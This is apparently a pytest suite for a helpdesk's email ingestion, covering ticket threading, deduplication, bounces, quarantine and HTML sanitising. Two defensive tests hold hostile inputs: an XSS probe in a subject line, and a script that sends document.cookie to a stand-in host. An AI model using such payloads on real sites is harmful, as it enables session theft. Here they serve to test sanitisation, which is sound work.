"""Email in, as a support team sees it: raw mail → the right ticket (or none), exactly once."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from email import message_from_bytes, policy
from email.message import EmailMessage

import pytest
from django.utils import timezone

from nordesk.connectors.email import services
from nordesk.connectors.email.errors import QuarantineError
from nordesk.connectors.email.models import AutoReplyLog, Mailbox, RawEmail, RawStatus
from nordesk.connectors.email.references import message_id_ticket
from nordesk.core.errors import Invalid
from nordesk.customers.models import Identity
from nordesk.tickets import services as ticket_services
from nordesk.tickets.models import (
    Attachment,
    EventKind,
    Message,
    Participant,
    Status,
    Ticket,
    TicketEvent,
)
from tests.connectors.email.builders import MAILBOX_ADDRESS, NB_TEXT, mail, many_parts

pytestmark = pytest.mark.django_db

NB_QUOTE_HEADER = (
    "Den tors. 12. sep. 2026 kl. 10:14 skrev Nordesk kundeservice <support@nordesk.test>:"
)
NB_QUOTE = "> Takk for henvendelsen.\n> Kan du sende oss fakturanummeret?"
ACK_EN = "Thank you for your message. We have received it as case"
# 1x1 PNG and a minimal PDF: real magic bytes, so the stored type is what the bytes show.
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
)
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def ingest(mailbox: Mailbox, raw: bytes) -> services.IngestResult:
    return services.mail_ingest(mailbox=mailbox, raw=raw, source="imap")


@pytest.fixture
def mailbox(people) -> Mailbox:
    return services.mailbox_create(
        name="Nordesk kundeservice",
        address=MAILBOX_ADDRESS,
        team_id=people.billing.pk,
        language="nb",
        signature="Vennlig hilsen\nNordesk kundeservice",
    )


@pytest.fixture
def sofie_ticket(mailbox) -> Ticket:
    """Sofie wrote to the mailbox; her mail opened a ticket."""
    result = ingest(
        mailbox,
        mail(
            sender="Sofie Lund <sofie@example.no>",
            subject="Feil beløp på fakturaen",
            message_id="<sofie-1@example.no>",
        ),
    )
    return Ticket.objects.get(pk=result.ticket_id)


@pytest.fixture
def sent_reply(people, sofie_ticket, mailoutbox, django_capture_on_commit_callbacks):
    """Kari answered Sofie's ticket; returns (reply message, the mail that went out)."""
    with django_capture_on_commit_callbacks(execute=True):
        reply = ticket_services.ticket_reply(
            ticket=sofie_ticket, actor=people.kari.user, text="Vi har sendt en ny faktura."
        )
    assert len(mailoutbox) == 1
    reply.refresh_from_db()
    raw = mailoutbox[0].message().as_bytes()
    return reply, message_from_bytes(raw, policy=policy.default)


def _tickets_of(address: str):
    return Ticket.objects.filter(customer__identities__address=address)


# --- a new customer mail -------------------------------------------------------------------


def test_mail_ingest_new_customer_mail_opens_one_ticket_in_the_mailbox_team(people, mailbox):
    # given a Norwegian mail from someone we have never heard from, answering our earlier mail
    body = f"{NB_TEXT}\n\n{NB_QUOTE_HEADER}\n{NB_QUOTE}\n"
    tickets_before = Ticket.objects.count()

    # when it arrives
    result = ingest(mailbox, mail(text=body, message_id="<nora-1@example.no>"))

    # then exactly one ticket, in the mailbox's default team, for the customer by address
    assert result.status == RawStatus.PROCESSED
    assert result.created_ticket is True
    assert result.duplicate is False
    assert Ticket.objects.count() == tickets_before + 1
    ticket = Ticket.objects.get(pk=result.ticket_id)
    assert ticket.team_id == people.billing.pk
    assert ticket.channel == "email"
    assert ticket.status == Status.NEW
    assert ticket.subject == "Feil på faktura"
    identity = Identity.objects.get(address="nora@example.no")
    assert ticket.customer_id == identity.customer_id
    assert ticket.customer.name == "Nora Berg"
    # the text is what Nora wrote; the quoted history is kept apart
    message = Message.objects.get(ticket=ticket)
    assert message.text.startswith("Hei!")
    assert "Nora Berg" in message.text
    assert "Takk for henvendelsen" not in message.text
    assert "Takk for henvendelsen" in message.quoted
    assert "skrev Nordesk kundeservice" in message.quoted
    assert message.thread_strategy == "new"
    assert message.external_id == "<nora-1@example.no>"
    # the language was detected from the text
    assert ticket.language == "nb"
    # and the raw mail is processed and linked to the message
    raw = RawEmail.objects.get(pk=result.raw_id)
    assert raw.status == RawStatus.PROCESSED
    assert raw.message_id == message.pk == result.message_id
    assert raw.mailbox_id == mailbox.pk


def test_mail_ingest_english_mail_gets_english_language(mailbox):
    # given a mail written in English to a Norwegian mailbox
    text = "Hello,\n\nMy invoice for September shows the wrong amount. Could you check it?\n\nNora"

    # when it arrives
    result = ingest(mailbox, mail(text=text))

    # then the ticket is in English, not the mailbox default
    assert Ticket.objects.get(pk=result.ticket_id).language == "en"


# --- exactly once --------------------------------------------------------------------------


def test_a_processed_mail_records_what_became_of_it(mailbox):
    # when: a mail is ingested
    before = timezone.now()
    result = ingest(mailbox, mail(message_id="<merket@example.no>"))

    # then: its raw row says processed, names the message and when, as the ORM reads it
    row = RawEmail.objects.get(pk=result.raw_id)
    assert row.status == RawStatus.PROCESSED
    assert row.message_id == result.message_id
    assert before <= row.handled_at <= timezone.now()


def test_mail_ingest_same_bytes_twice_is_one_message(mailbox):
    # given a mail already received
    raw = mail(message_id="<twice@example.no>")
    first = ingest(mailbox, raw)

    # when the same bytes are delivered again
    second = ingest(mailbox, raw)

    # then there is one message and the second result says it is a duplicate
    assert second.duplicate is True
    assert second.message_id == first.message_id
    assert Message.objects.filter(external_id="<twice@example.no>").count() == 1
    assert _tickets_of("nora@example.no").count() == 1
    assert RawEmail.objects.count() == 1


def test_mail_ingest_same_message_id_with_other_bytes_is_one_message(mailbox):
    # given a mail already received
    raw = mail(message_id="<relayed@example.no>")
    first = ingest(mailbox, raw)

    # when the same message arrives by another route (one more Received header)
    relayed = b"Received: from mx2.example.no by mx.nordesk.test; Thu, 12 Sep 2026\r\n" + raw
    second = ingest(mailbox, relayed)

    # then it is still one message on one ticket; the second copy points at it
    assert Message.objects.filter(external_id="<relayed@example.no>").count() == 1
    assert _tickets_of("nora@example.no").count() == 1
    assert second.message_id == first.message_id
    assert second.ticket_id == first.ticket_id
    assert RawEmail.objects.get(pk=second.raw_id).message_id == first.message_id


def test_mail_ingest_same_message_id_with_other_bytes_is_reported_as_duplicate(mailbox):
    # given a mail already received
    raw = mail(message_id="<relayed-2@example.no>")
    ingest(mailbox, raw)

    # when the same message arrives by another route (one more Received header)
    second = ingest(mailbox, b"Received: from mx2.example.no by mx.nordesk.test\r\n" + raw)

    # then the result says so, as mail_ingest promises ("the same bytes again (or the same
    # Message-ID) give the first result back"): no new ticket was made by it
    assert second.duplicate is True
    assert second.created_ticket is False


# --- attachments and size limits -----------------------------------------------------------


def test_mail_ingest_attachments_and_inline_image_become_attachment_rows(mailbox):
    # given a mail with an HTML part showing an inline logo, and a PDF attached
    message = EmailMessage()
    message["From"] = "Nora Berg <nora@example.no>"
    message["To"] = MAILBOX_ADDRESS
    message["Subject"] = "Faktura vedlagt"
    message["Message-ID"] = "<attach@example.no>"
    message.set_content(NB_TEXT)
    message.add_alternative(
        '<p>Se vedlagt faktura.</p><img src="cid:logo-1@example.no">', subtype="html"
    )
    message.get_payload()[1].add_related(
        PNG, maintype="image", subtype="png", cid="<logo-1@example.no>", filename="logo.png"
    )
    message.add_attachment(PDF, maintype="application", subtype="pdf", filename="faktura.pdf")

    # when it arrives
    result = ingest(mailbox, message.as_bytes(policy=policy.SMTP))

    # then both files are on the message, with their names, sizes and the image's Content-ID
    rows = {a.filename: a for a in Attachment.objects.filter(message_id=result.message_id)}
    assert set(rows) == {"logo.png", "faktura.pdf"}
    assert rows["faktura.pdf"].size == len(PDF)
    assert rows["faktura.pdf"].content_id == ""
    assert rows["faktura.pdf"].content_type == "application/pdf"
    assert rows["logo.png"].size == len(PNG)
    assert rows["logo.png"].content_id == "logo-1@example.no"
    with rows["faktura.pdf"].file.open("rb") as handle:
        assert handle.read() == PDF
    assert 'src="cid:logo-1@example.no"' in Message.objects.get(pk=result.message_id).html


def test_mail_ingest_attachment_over_the_limit_is_left_out_and_the_text_says_so(settings, mailbox):
    # given attachments may be at most 1000 bytes
    settings.MAX_ATTACHMENT_BYTES = 1000
    big = b"%PDF-1.4\n" + b"0" * 5000
    small = b"Kundenummer: 12345\n"

    # when a mail brings one too large and one small attachment
    result = ingest(
        mailbox,
        mail(attachments=(("stor.pdf", "application/pdf", big), ("lite.txt", "text/plain", small))),
    )

    # then the ticket exists with the small one only, and the text names the one left out
    assert result.status == RawStatus.PROCESSED
    message = Message.objects.get(pk=result.message_id)
    assert [a.filename for a in message.attachments.all()] == ["lite.txt"]
    assert "Fakturaen for september" in message.text
    assert "stor.pdf was too large to import" in message.text


def test_mail_ingest_message_over_the_size_limit_keeps_raw_and_says_body_too_large(
    settings, mailbox
):
    # given mail may be at most 2000 bytes
    settings.EMAIL_MAX_BYTES = 2000
    raw = mail(
        subject="Stor fil",
        attachments=(("logg.txt", "text/plain", b"linje\n" * 2000),),
    )
    assert len(raw) > 2000

    # when a larger mail arrives
    result = ingest(mailbox, raw)

    # then there is a ticket whose text says the body was too large, and the raw mail is kept
    assert result.status == RawStatus.PROCESSED
    ticket = Ticket.objects.get(pk=result.ticket_id)
    assert ticket.subject == "Stor fil"
    message = Message.objects.get(pk=result.message_id)
    assert "its body was not imported" in message.text
    assert "Fakturaen for september" not in message.text
    assert not message.attachments.exists()
    stored = RawEmail.objects.get(pk=result.raw_id)
    assert bytes(stored.content) == raw
    assert stored.size == len(raw)


# --- threading -----------------------------------------------------------------------------


def test_mail_ingest_answer_to_our_signed_message_id_continues_the_ticket(
    mailbox, sofie_ticket, sent_reply
):
    # given Kari's reply went out with a Message-ID of ours
    reply, sent = sent_reply
    our_id = sent["Message-ID"]
    assert message_id_ticket(our_id) == sofie_ticket.pk

    # when Sofie answers it (a new subject, so only the reference can thread it)
    result = ingest(
        mailbox,
        mail(
            sender="sofie@example.no",
            subject="Takk",
            text="Takk, nå stemmer fakturaen.",
            in_reply_to=our_id,
            references=f"<sofie-1@example.no> {our_id}",
        ),
    )

    # then it lands on the same ticket, which is open again
    message = Message.objects.get(pk=result.message_id)
    assert message.ticket_id == sofie_ticket.pk
    assert message.thread_strategy == "signed_reference"
    assert result.created_ticket is False
    assert Ticket.objects.get(pk=sofie_ticket.pk).status == Status.OPEN


def test_mail_ingest_forged_message_id_of_ours_does_not_thread(mailbox, sofie_ticket, sent_reply):
    # given a Message-ID that looks like ours and names Sofie's ticket, with a wrong signature
    reply, sent = sent_reply
    forged = f"<nordesk.{sofie_ticket.pk}.{reply.pk}.0123456789abcdef@nordesk.test>"
    assert forged != sent["Message-ID"]
    assert message_id_ticket(forged) is None

    # when a mail refers only to it
    result = ingest(
        mailbox,
        mail(sender="sofie@example.no", subject="Et spørsmål", in_reply_to=forged),
    )

    # then it starts a new ticket
    assert result.created_ticket is True
    assert result.ticket_id != sofie_ticket.pk
    assert Message.objects.get(pk=result.message_id).thread_strategy == "new"


def test_mail_ingest_answer_to_the_plus_reply_address_continues_the_ticket(
    mailbox, sofie_ticket, sent_reply
):
    # given the reply told Sofie to answer to a signed plus address
    _reply, sent = sent_reply
    reply_to = sent["Reply-To"]
    assert reply_to.startswith(f"support+t{sofie_ticket.pk}-")

    # when her mail client drops all references but writes to that address
    result = ingest(
        mailbox,
        mail(sender="sofie@example.no", to=reply_to, subject="Et spørsmål til"),
    )

    # then it lands on her ticket
    message = Message.objects.get(pk=result.message_id)
    assert message.ticket_id == sofie_ticket.pk
    assert message.thread_strategy == "plus_address"


def test_mail_ingest_subject_token_from_the_customer_continues_the_ticket(mailbox, sofie_ticket):
    # when Sofie writes a fresh mail naming her ticket in the subject
    result = ingest(
        mailbox,
        mail(sender="sofie@example.no", subject=f"Re: [#{sofie_ticket.number}] Feil beløp"),
    )

    # then it continues that ticket
    message = Message.objects.get(pk=result.message_id)
    assert message.ticket_id == sofie_ticket.pk
    assert message.thread_strategy == "subject_token"


def test_mail_ingest_subject_token_from_a_stranger_opens_a_new_ticket(mailbox, sofie_ticket):
    # when someone else names Sofie's ticket in the subject
    result = ingest(
        mailbox,
        mail(sender="ukjent@example.com", subject=f"Re: [#{sofie_ticket.number}] Feil beløp"),
    )

    # then they get a ticket of their own, and Sofie's ticket is untouched
    assert result.created_ticket is True
    ticket = Ticket.objects.get(pk=result.ticket_id)
    assert ticket.pk != sofie_ticket.pk
    assert ticket.customer.identities.get().address == "ukjent@example.com"
    assert f"[#{sofie_ticket.number}]" not in ticket.subject
    assert Message.objects.filter(ticket=sofie_ticket).count() == 1


def test_mail_ingest_stranger_answering_our_signed_message_id_opens_a_new_ticket(
    mailbox, sofie_ticket, sent_reply
):
    # given our reply's valid Message-ID (a stranger got the mail forwarded, newsletter-style)
    _reply, sent = sent_reply
    our_id = sent["Message-ID"]

    # when the stranger answers it
    result = ingest(
        mailbox,
        mail(
            sender="Per Fremmed <per@example.com>",
            subject=sent["Subject"],
            in_reply_to=our_id,
            references=our_id,
            to=sent["Reply-To"],
        ),
    )

    # then it is a new ticket for the stranger, not a message on Sofie's ticket
    assert result.created_ticket is True
    ticket = Ticket.objects.get(pk=result.ticket_id)
    assert ticket.pk != sofie_ticket.pk
    assert ticket.customer.name == "Per Fremmed"
    assert Message.objects.filter(ticket=sofie_ticket, direction="in").count() == 1


def test_mail_ingest_cc_colleague_becomes_participant_and_their_answer_threads(mailbox):
    # given Nora writes with her colleague in Cc
    first = ingest(
        mailbox,
        mail(
            message_id="<nora-cc@example.no>",
            cc="Ola Kollega <ola@example.no>, Nordesk <support@nordesk.test>",
        ),
    )
    ticket = Ticket.objects.get(pk=first.ticket_id)

    # then the colleague takes part in the ticket (our own address does not)
    participants = Participant.objects.filter(ticket=ticket)
    assert [p.customer.identities.get().address for p in participants] == ["ola@example.no"]

    # when the colleague answers all
    answer = ingest(
        mailbox,
        mail(
            sender="Ola Kollega <ola@example.no>",
            subject="Re: Feil på faktura",
            text="Jeg har også sett dette på vår faktura.",
            in_reply_to="<nora-cc@example.no>",
            references="<nora-cc@example.no>",
        ),
    )

    # then it continues Nora's ticket
    assert answer.created_ticket is False
    assert answer.ticket_id == ticket.pk
    assert Message.objects.get(pk=answer.message_id).thread_strategy == "thread_key"


# --- mail that must not become a ticket ----------------------------------------------------


@pytest.mark.parametrize(
    "headers",
    [
        {"Auto-Submitted": "auto-replied"},
        {"Precedence": "bulk"},
        {"X-Autoreply": "yes"},
    ],
    ids=["auto-submitted", "precedence-bulk", "x-autoreply"],
)
def test_mail_ingest_automatic_reply_opens_no_ticket(mailbox, headers):
    # given an out-of-office style mail
    tickets_before = Ticket.objects.count()

    # when it arrives
    result = ingest(
        mailbox, mail(subject="Fravær", text="Jeg er på ferie til 1. oktober.", headers=headers)
    )

    # then nothing is opened; the raw mail is ignored, with the reason
    assert Ticket.objects.count() == tickets_before
    assert result.status == RawStatus.IGNORED
    raw = RawEmail.objects.get(pk=result.raw_id)
    assert raw.status == RawStatus.IGNORED
    assert raw.reason
    assert raw.message_id is None
    assert not Identity.objects.filter(address="nora@example.no").exists()


def test_mail_ingest_our_reply_looping_back_opens_nothing_and_reopens_nothing(
    mailbox, sofie_ticket, sent_reply
):
    # given Kari's reply went out and the ticket waits for Sofie
    _reply, sent = sent_reply
    assert Ticket.objects.get(pk=sofie_ticket.pk).status == Status.PENDING
    tickets_before = Ticket.objects.count()
    messages_before = Message.objects.count()

    # when the very mail we sent comes back into the mailbox
    result = ingest(mailbox, sent.as_bytes())

    # then it is ignored: no ticket, no message, no reopening
    assert result.status == RawStatus.IGNORED
    assert Ticket.objects.count() == tickets_before
    assert Message.objects.count() == messages_before
    assert Ticket.objects.get(pk=sofie_ticket.pk).status == Status.PENDING


def test_mail_ingest_mail_from_our_own_address_opens_nothing(mailbox, sofie_ticket, sent_reply):
    # given the ticket waits for Sofie
    tickets_before = Ticket.objects.count()

    # when a mail from the mailbox's own address (a plus variant) names the ticket
    result = ingest(
        mailbox,
        mail(
            sender="Nordesk kundeservice <support+noreply@nordesk.test>",
            subject=f"[#{sofie_ticket.number}] Feil beløp",
            text="Dette er en kopi av svaret vårt.",
        ),
    )

    # then it is ignored
    assert result.status == RawStatus.IGNORED
    assert Ticket.objects.count() == tickets_before
    assert Ticket.objects.get(pk=sofie_ticket.pk).status == Status.PENDING


def test_mail_ingest_mail_with_our_message_id_from_elsewhere_opens_nothing(
    mailbox, sofie_ticket, sent_reply
):
    # given our reply's Message-ID
    _reply, sent = sent_reply
    tickets_before = Ticket.objects.count()

    # when a copy of our mail comes back with another sender (a forwarding rule rewrote From)
    result = ingest(
        mailbox,
        mail(
            sender="sofie@example.no",
            subject=sent["Subject"],
            message_id=sent["Message-ID"],
            text="Vi har sendt en ny faktura.",
        ),
    )

    # then it is ignored and Sofie's ticket stays as it was
    assert result.status == RawStatus.IGNORED
    assert Ticket.objects.count() == tickets_before
    assert Ticket.objects.get(pk=sofie_ticket.pk).status == Status.PENDING
    assert Message.objects.filter(ticket=sofie_ticket, direction="in").count() == 1


def _dsn(original_message_id: str, recipient: str = "sofie@example.no") -> bytes:
    return (
        "From: Mail Delivery System <MAILER-DAEMON@mx.example.no>\r\n"
        f"To: {MAILBOX_ADDRESS}\r\n"
        "Subject: Undelivered Mail Returned to Sender\r\n"
        "Date: Thu, 12 Sep 2026 11:00:00 +0200\r\n"
        "Message-ID: <dsn-1@mx.example.no>\r\n"
        "Auto-Submitted: auto-replied\r\n"
        "MIME-Version: 1.0\r\n"
        'Content-Type: multipart/report; report-type=delivery-status; boundary="dsn"\r\n'
        "\r\n"
        "--dsn\r\n"
        "Content-Type: text/plain; charset=utf-8\r\n"
        "\r\n"
        f"Your message could not be delivered to {recipient}: 550 5.1.1 User unknown\r\n"
        "\r\n"
        "--dsn\r\n"
        "Content-Type: message/delivery-status\r\n"
        "\r\n"
        "Reporting-MTA: dns; mx.example.no\r\n"
        "\r\n"
        f"Final-Recipient: rfc822; {recipient}\r\n"
        "Action: failed\r\n"
        "Status: 5.1.1\r\n"
        "\r\n"
        "--dsn\r\n"
        "Content-Type: text/rfc822-headers\r\n"
        "\r\n"
        f"From: Nordesk kundeservice <{MAILBOX_ADDRESS}>\r\n"
        f"To: {recipient}\r\n"
        "Subject: Feil beløp på fakturaen\r\n"
        f"Message-ID: {original_message_id}\r\n"
        "\r\n"
        "--dsn--\r\n"
    ).encode()


def test_mail_ingest_bounce_marks_our_reply_failed_without_a_ticket(
    mailbox, sofie_ticket, sent_reply
):
    # given Kari's reply was sent
    reply, sent = sent_reply
    assert reply.delivery_status == "sent"
    tickets_before = Ticket.objects.count()

    # when the recipient's server reports it undeliverable
    result = ingest(mailbox, _dsn(sent["Message-ID"]))

    # then the reply is marked failed with the reason, in the ticket's history too
    reply.refresh_from_db()
    assert reply.delivery_status == "failed"
    assert "User unknown" in reply.delivery_error
    event = TicketEvent.objects.get(ticket=sofie_ticket, kind=EventKind.DELIVERY_FAILED)
    assert event.data["message"] == reply.pk
    assert "User unknown" in event.data["error"]
    # and no ticket is opened, the waiting ticket is not reopened
    assert result.status == RawStatus.IGNORED
    assert Ticket.objects.count() == tickets_before
    assert Ticket.objects.get(pk=sofie_ticket.pk).status == Status.PENDING
    assert Message.objects.filter(ticket=sofie_ticket).count() == 2


def test_mail_ingest_bounce_for_an_unknown_message_is_ignored(mailbox, sofie_ticket):
    tickets_before = Ticket.objects.count()

    result = ingest(mailbox, _dsn("<not-ours@elsewhere.example>"))

    assert result.status == RawStatus.IGNORED
    assert Ticket.objects.count() == tickets_before
    assert not TicketEvent.objects.filter(kind=EventKind.DELIVERY_FAILED).exists()


# --- quarantine ----------------------------------------------------------------------------


def test_mail_ingest_message_the_parser_rejects_is_quarantined(mailbox):
    tickets_before = Ticket.objects.count()

    # when a mail with 600 MIME parts arrives
    result = ingest(mailbox, many_parts(600))

    # then it waits in the quarantine, saying why, and no ticket is opened
    assert result.status == RawStatus.QUARANTINED
    raw = RawEmail.objects.get(pk=result.raw_id)
    assert raw.status == RawStatus.QUARANTINED
    assert "MIME parts" in raw.reason
    assert Ticket.objects.count() == tickets_before


def test_quarantine_retry_after_a_fix_processes_the_message(mailbox, monkeypatch):
    # given a mail quarantined for too many parts
    result = ingest(mailbox, many_parts(600))
    raw = RawEmail.objects.get(pk=result.raw_id)

    # when the cap is raised and the message retried
    monkeypatch.setattr("nordesk.connectors.email.parse.MAX_PARTS", 1000)
    retried = services.quarantine_retry(raw_email=raw)

    # then it is processed and a ticket exists
    assert retried.status == RawStatus.PROCESSED
    raw.refresh_from_db()
    assert raw.status == RawStatus.PROCESSED
    assert raw.reason == ""
    message = Message.objects.get(pk=raw.message_id)
    assert message.ticket.subject == "Mange deler"
    assert "Del 599 av fakturaen." in message.text

    # and a processed message cannot be retried again
    with pytest.raises(QuarantineError):
        services.quarantine_retry(raw_email=raw)


def test_quarantine_retry_of_an_imported_message_keeps_its_date(mailbox, monkeypatch):
    # given a mail from an archive import (dated by its Date header) was quarantined
    raw = many_parts(600).replace(
        b"Subject:", b"Date: Tue, 05 Mar 2019 09:15:00 +0100\r\nSubject:", 1
    )
    result = services.mail_ingest(mailbox=mailbox, raw=raw, source="import", keep_date=True)
    assert result.status == RawStatus.QUARANTINED

    # when it is retried after the fix
    monkeypatch.setattr("nordesk.connectors.email.parse.MAX_PARTS", 1000)
    retried = services.quarantine_retry(raw_email=RawEmail.objects.get(pk=result.raw_id))

    # then it is dated like the other imported messages, by its Date header
    message = Message.objects.get(pk=retried.message_id)
    assert message.created_at == datetime(2019, 3, 5, 8, 15, tzinfo=UTC)


def test_quarantine_discard_needs_a_reason(mailbox):
    # given a quarantined mail
    raw = RawEmail.objects.get(pk=ingest(mailbox, many_parts(600)).raw_id)

    # when it is discarded without a reason, it is refused
    with pytest.raises(Invalid):
        services.quarantine_discard(raw_email=raw, reason="   ")
    raw.refresh_from_db()
    assert raw.status == RawStatus.QUARANTINED

    # when a reason is given, it is discarded and the raw mail kept
    services.quarantine_discard(raw_email=raw, reason="Søppelpost")
    raw.refresh_from_db()
    assert raw.status == RawStatus.DISCARDED
    assert raw.reason == "Søppelpost"
    assert len(raw.content) == raw.size
    with pytest.raises(QuarantineError):
        services.quarantine_retry(raw_email=raw)


# --- control headers and hostile content ---------------------------------------------------


def test_mail_ingest_trusted_mailbox_honours_priority_header(people):
    # given a mailbox for our own monitoring systems
    trusted = services.mailbox_create(
        name="Overvåking", address="alerts@nordesk.test", team_id=people.billing.pk, trusted=True
    )

    # when an alert asks for urgent priority
    result = ingest(
        trusted,
        mail(to="alerts@nordesk.test", headers={"X-Nordesk-Priority": "urgent"}),
    )

    # then the ticket is urgent
    assert Ticket.objects.get(pk=result.ticket_id).priority == "urgent"


def test_mail_ingest_untrusted_mailbox_ignores_priority_header(mailbox):
    # when a customer's mail asks for urgent priority
    result = ingest(mailbox, mail(headers={"X-Nordesk-Priority": "urgent"}))

    # then it is not honoured
    assert Ticket.objects.get(pk=result.ticket_id).priority == "normal"


def test_mail_ingest_markup_in_subject_is_stored_literally(mailbox):
    result = ingest(mailbox, mail(subject="<img src=x onerror=alert(1)>"))

    # stored as written; escaping it is the templates' job
    assert Ticket.objects.get(pk=result.ticket_id).subject == "<img src=x onerror=alert(1)>"


def test_mail_ingest_html_body_is_stored_sanitised(mailbox):
    html = (
        "<p>Hei, <b>fakturaen</b> stemmer ikke.</p>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        '<a href="javascript:alert(1)" onclick="alert(2)">klikk</a>'
    )

    result = ingest(mailbox, mail(html=html))

    message = Message.objects.get(pk=result.message_id)
    assert "<script" not in message.html.lower()
    assert "document.cookie" not in message.html
    assert "onclick" not in message.html
    assert "javascript:" not in message.html
    assert "<b>fakturaen</b>" in message.html


# --- acknowledgements ----------------------------------------------------------------------


def test_mail_ingest_new_ticket_is_acknowledged_once_in_the_customer_language(
    mailbox, mailoutbox, django_capture_on_commit_callbacks
):
    # given the mailbox acknowledges new tickets
    services.mailbox_update(mailbox=mailbox, changes={"auto_acknowledge": True})

    # when a Norwegian mail opens a ticket
    with django_capture_on_commit_callbacks(execute=True):
        result = ingest(mailbox, mail())

    # then one acknowledgement goes to the customer, marked automatic, naming the ticket
    ticket = Ticket.objects.get(pk=result.ticket_id)
    assert ticket.language == "nb"
    assert len(mailoutbox) == 1
    ack = mailoutbox[0]
    assert ack.to == ["nora@example.no"]
    sent = message_from_bytes(ack.message().as_bytes(), policy=policy.default)
    assert sent["Auto-Submitted"] == "auto-replied"
    assert sent["Subject"] == f"[#{ticket.number}] Feil på faktura"
    assert f"[#{ticket.number}]" in ack.body
    assert "Vi har mottatt den som sak" in ack.body
    assert ACK_EN not in ack.body


def test_mail_ingest_second_new_ticket_in_the_window_is_not_acknowledged_again(
    mailbox, mailoutbox, django_capture_on_commit_callbacks
):
    # given the mailbox acknowledges new tickets and Nora got one acknowledgement
    services.mailbox_update(mailbox=mailbox, changes={"auto_acknowledge": True})
    with django_capture_on_commit_callbacks(execute=True):
        first = ingest(mailbox, mail(subject="Første sak"))
    assert len(mailoutbox) == 1

    # when she opens another ticket within the window
    with django_capture_on_commit_callbacks(execute=True):
        second = ingest(mailbox, mail(subject="Andre sak", text="Hei igjen, en annen sak."))

    # then the ticket exists but no second acknowledgement goes out
    assert second.created_ticket is True
    assert second.ticket_id != first.ticket_id
    assert len(mailoutbox) == 1


def test_mail_ingest_late_second_copy_of_a_message_is_not_acknowledged_again(
    mailbox, mailoutbox, django_capture_on_commit_callbacks
):
    # given the mailbox acknowledges new tickets and Nora's mail was acknowledged
    services.mailbox_update(mailbox=mailbox, changes={"auto_acknowledge": True})
    raw = mail(message_id="<late-copy@example.no>")
    with django_capture_on_commit_callbacks(execute=True):
        first = ingest(mailbox, raw)
    assert len(mailoutbox) == 1

    # when a second copy of the same message (via a backup MX, one more Received header)
    # arrives after the acknowledgement window
    AutoReplyLog.objects.filter(address="nora@example.no").update(
        last_sent_at=timezone.now() - timedelta(hours=3)
    )
    relayed = b"Received: from backup-mx.example.no by mx.nordesk.test\r\n" + raw
    with django_capture_on_commit_callbacks(execute=True):
        second = ingest(mailbox, relayed)

    # then it is the same message and Nora does not get a second acknowledgement for it
    assert second.message_id == first.message_id
    assert len(mailoutbox) == 1


def test_mail_ingest_answer_on_a_ticket_is_not_acknowledged(
    mailbox, sofie_ticket, mailoutbox, django_capture_on_commit_callbacks
):
    # given the mailbox acknowledges new tickets
    services.mailbox_update(mailbox=mailbox, changes={"auto_acknowledge": True})

    # when Sofie writes again on her ticket
    with django_capture_on_commit_callbacks(execute=True):
        ingest(
            mailbox,
            mail(sender="sofie@example.no", subject=f"Re: [#{sofie_ticket.number}] Feil beløp"),
        )

    # then no acknowledgement is sent
    assert mailoutbox == []


# --- batches (an IMAP fetch, an import) ------------------------------------------------------


def test_mail_ingest_many_quarantines_the_broken_mail_and_the_others_open_tickets(mailbox):
    # given a fetch of three mails, the middle one with 600 MIME parts
    raws = [
        mail(sender="Sofie Lund <sofie@example.no>", subject="Faktura", message_id="<b1@x.no>"),
        many_parts(600),
        mail(sender="Nils Berg <nils@example.no>", subject="Levering", message_id="<b2@x.no>"),
    ]

    # when they are ingested as one batch
    results = services.mail_ingest_many(mailbox=mailbox, raws=raws, source="imap")

    # then the broken one waits in the quarantine and the other two opened their tickets
    assert [result.status for result in results] == [
        RawStatus.PROCESSED,
        RawStatus.QUARANTINED,
        RawStatus.PROCESSED,
    ]
    assert [result.created_ticket for result in results] == [True, False, True]
    subjects = set(Ticket.objects.values_list("subject", flat=True))
    assert {"Faktura", "Levering"} <= subjects
    assert RawEmail.objects.get(pk=results[1].raw_id).status == RawStatus.QUARANTINED


def test_mail_ingest_many_same_bytes_twice_in_one_batch_is_one_message(mailbox):
    raw = mail(sender="Sofie Lund <sofie@example.no>", message_id="<twice@x.no>")

    results = services.mail_ingest_many(mailbox=mailbox, raws=[raw, raw], source="imap")

    assert results[0].status == RawStatus.PROCESSED
    assert not results[0].duplicate
    assert results[1].duplicate
    assert results[1].ticket_id == results[0].ticket_id
    assert RawEmail.objects.get(pk=results[0].raw_id).status == RawStatus.PROCESSED
    assert Message.objects.filter(external_id="<twice@x.no>").count() == 1


def test_mail_ingest_many_keeps_the_raw_mail_when_processing_fails(mailbox, monkeypatch):
    # given the database fails while the batch is processed (after the raw bytes were stored)
    raws = [mail(sender="Sofie Lund <sofie@example.no>", message_id="<kept@x.no>")]

    def down(*args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(services.ticket_services, "receive_once", down)
    with pytest.raises(RuntimeError):
        services.mail_ingest_many(mailbox=mailbox, raws=raws, source="imap")

    # then the raw mail is kept, waiting, and the next delivery of it opens the ticket
    kept = RawEmail.objects.get()
    assert kept.status == RawStatus.RECEIVED
    monkeypatch.undo()
    (result,) = services.mail_ingest_many(mailbox=mailbox, raws=raws, source="imap")
    assert result.status == RawStatus.PROCESSED
    assert result.raw_id == kept.pk
    assert Ticket.objects.filter(pk=result.ticket_id).exists()
